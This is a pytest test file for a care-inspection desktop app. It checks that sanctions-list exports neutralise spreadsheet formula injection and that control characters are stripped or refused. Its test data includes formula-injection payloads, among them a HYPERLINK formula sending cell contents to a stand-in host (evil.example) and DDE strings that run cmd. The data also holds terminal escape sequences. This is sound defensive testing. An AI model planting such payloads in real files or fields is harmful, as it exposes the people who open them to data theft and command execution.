"""Exports are safe to open, and control characters never get in (issue 15, point 5).

Provider names that are formulas (``=HYPERLINK(…)``, a DDE ``=cmd|' /C calc'!A0``) come out of the
sanctions list as text, in the XLSX (string cells with the quote prefix, no formula anywhere in the
file) and in the CSV (a leading ``'``, every cell quoted, OWASP). A name holding ``\\x07`` or ``\\x1b``
(data from before this check, or from another laptop) no longer fails the export, and the terminal
never receives the raw characters. Typed or imported text with control characters is refused with
a sentence naming the field, or (a file being imported) imported without them, and said.
"""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook
from sqlalchemy import text

from qa_desktop.cli import main
from qa_desktop.domain.oversight import EmbargoKind, EmbargoScope, InformalReason
from qa_desktop.forms.library import TemplateLibrary
from qa_desktop.safe_text import (
    ControlCharacters,
    check_text,
    csv_cell,
    csv_writer,
    terminal_text,
    without_controls,
)
from qa_desktop.services import oversight as qa
from qa_desktop.services.demo import load_demo
from qa_desktop.services.provider_import import import_providers
from qa_desktop.services.register import find_by_urn
from qa_desktop.services.sanctions import export, sanctions_list
from qa_desktop.services.visits import open_visit
from qa_desktop.store.models import Provider, QaCase
from tests.conftest import TODAY
from tests.sync.conftest import make_visit

DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A2,"Click")', "=cmd|' /C calc'!A0", "+44 1634 000000",
             "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\tTabbed Care", "\rReturn Homes"]


@pytest.fixture
def sanctioned(store):
    """Demo providers renamed to formulas, each under an embargo so it is on the sanctions list;
    one more with a bell and an escape in its name, as a laptop from before this check has it."""
    load_demo(store, today=TODAY)
    urns = ["SC700101", "SC700102", "SC700103", "SC700104", "SC700105", "SC700106", "SC700107", "SC700108"]
    with store.read() as session:
        ids = [find_by_urn(session, urn).id for urn in urns]
    for provider_id, name in zip(ids, [*DANGEROUS, "placeholder"], strict=True):
        with store.write() as changes:
            changes.update(changes.session.get(Provider, provider_id), name=name)
        qa.issue_embargo(store, provider_id, kind=EmbargoKind.INFORMAL, scope=EmbargoScope.PROVIDER,
                         reason="=1+1 looked into", start_on=TODAY, informal_reason=InformalReason.INVESTIGATION)
    with store.transaction() as session:  # old data: written before the write path refused it
        session.execute(text("UPDATE providers SET name = :n WHERE id = :i"),
                        {"n": "Bell\x07 and \x1b[2JEscape House", "i": ids[-1]})
    with store.read() as session:
        return sanctions_list(session, TODAY)


def test_formulas_are_text_in_the_xlsx_and_control_characters_do_not_break_it(sanctioned, tmp_path):
    path = tmp_path / "sanctions.xlsx"
    export(sanctioned, path, TODAY)  # before: IllegalCharacterError for the whole team
    with zipfile.ZipFile(path) as book:
        sheet_xml = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # not one formula in the file
    sheet = load_workbook(path).active
    names = {sheet.cell(row=r, column=1).value: sheet.cell(row=r, column=1) for r in range(2, sheet.max_row + 1)}
    for name in DANGEROUS:
        # XML parsers may read a bare carriage return back as a line feed (openpyxl's own does, lxml keeps it)
        cell = names.get(name) or names[name.replace("\r", "\n")]
        assert cell.data_type == "s" and cell.quotePrefix  # text, and stays text when edited
    assert "Bell and [2JEscape House" in names  # the controls removed, the rest kept
    assert names["Bell and [2JEscape House"].data_type == "s"
    # the embargoes' reasons (the demo's poor judgements are on the list too, with Ofsted's words)
    reasons = {sheet.cell(row=r, column=9).value for r in range(2, sheet.max_row + 1)
               if sheet.cell(row=r, column=4).value.startswith("Embargo")}
    assert reasons == {"=1+1 looked into"}


def test_formulas_are_escaped_in_the_csv_the_owasp_way(sanctioned, tmp_path):
    path = tmp_path / "sanctions.csv"
    export(sanctioned, path, TODAY)
    with open(path, encoding="utf-8-sig", newline="") as handle:
        raw = handle.read()
    assert "\x07" not in raw and "\x1b" not in raw
    rows = list(csv.reader(io.StringIO(raw)))
    providers = [row[0] for row in rows[1:]]
    for name in DANGEROUS:
        assert "'" + name in providers
    assert all(not p.startswith(("=", "+", "-", "@", "\t", "\r")) for p in providers)
    assert all(record.startswith('"') for record in raw.split("\r\n") if record)  # every cell quoted
    embargoes = [row for row in rows[1:] if row[3].startswith("Embargo")]
    assert len(embargoes) == 8 and all(row[8] == "'=1+1 looked into" for row in embargoes)


def test_the_rules_of_the_shared_module():
    assert csv_cell("=1+2") == "'=1+2" and csv_cell("Oak House") == "Oak House" and csv_cell(-3) == -3
    assert csv_cell("a\x00b\x7fc\x9fd") == "abcd" and without_controls("tab\tline\nreturn\r") == "tab\tline\nreturn\r"
    buffer = io.StringIO()
    csv_writer(buffer).writerow(["@x", 'say "hi"', 4])
    assert buffer.getvalue() == '"\'@x","say ""hi""","4"\r\n'
    assert terminal_text("a\x1b[31mred\x07\r\nnext\rover") == "a\\x1b[31mred\\x07\nnext\\rover"
    with pytest.raises(ControlCharacters, match=r"^Name contains control characters \(BEL \\x07, ESC \\x1b\)"):
        check_text("name", "x\x07\x1b")
    check_text("name", "Zoë's café\tOK\n")  # tab and new lines are text
    check_text("note", "Seen.\x85Told the manager.")  # NEL is a line break (text from web pages), not refused
    assert terminal_text("a\x85b\x9bc") == "a\nb\\x9bc"  # and shown as one; other C1 (CSI) escaped


def test_typed_text_with_control_characters_is_refused_naming_the_field(store):
    visit_id = make_visit(store, TemplateLibrary.load())
    with store.read() as session:
        provider_id = find_by_urn(session, "SC700105").id
        cases_before = session.query(QaCase).count()
    with pytest.raises(ControlCharacters, match=r"^QA case summary contains a control character \(ESC \\x1b\)"):
        qa.log_case(store, provider_id, opened_on=TODAY, source=qa.CaseSource.OTHER, category="Complaint",
                    summary="Pasted from a terminal \x1b[0m")
    with store.read() as session:
        assert session.query(QaCase).count() == cases_before  # nothing half-written
    visit = open_visit(store, visit_id)
    template, checklist = next(iter(visit.checklists.items()))
    item = checklist.visible_items()[0].key
    visit.set_note(template, item, "Kept")
    with pytest.raises(ControlCharacters, match=r"^Answer note contains a control character"):
        visit.set_note(template, item, "bell\x07")
    assert open_visit(store, visit_id).checklists[template].record(item).note == "Kept"
    with pytest.raises(ControlCharacters, match=r"^Your name"):
        store.set_user("Alex\x1b[8m")


def test_an_imported_file_loses_its_control_characters_and_says_so(store, write_csv, capsys, tmp_path):
    path = write_csv("URN,Provision type,Name,Town,Postcode\n"
                     "SC990001,Children's home,Bell\x07 House,Chatham,ME4 4AA\n"
                     "SC990002,Children's home,Clear House,Chatham,ME4 4AB\n")
    report = import_providers(store, path)
    assert report.added == 2 and report.cleaned_total == 1
    assert str(report.cleaned[0]) == "line 2: name: removed BEL \\x07"
    assert "control characters removed from 1 cell" in report.summary()
    with store.read() as session:
        assert find_by_urn(session, "SC990001").name == "Bell House"
    capsys.readouterr()
    assert main(["import-providers", str(path), "--data-dir", str(store.data_dir)]) == 0
    out = capsys.readouterr().out
    assert "\x07" not in out and "line 2: name: removed BEL \\x07" in out


def test_the_terminal_never_receives_raw_control_characters(store, capsys):
    load_demo(store, today=TODAY)
    with store.transaction() as session:  # old data
        session.execute(text("UPDATE providers SET name = 'Oak\x1b[2J\x07 House' WHERE urn = 'SC700101'"))
    capsys.readouterr()
    assert main(["providers", "Oak", "--data-dir", str(store.data_dir)]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "Oak\\x1b[2J\\x07 House" in out
    assert main(["cases", "SC700101", "--add", "Bad \x1b[31m", "--source", "other", "--category", "Complaint",
                 "--data-dir", str(store.data_dir)]) == 2
    err = capsys.readouterr().err
    assert "\x1b" not in err and "contains a control character (ESC \\x1b)" in err

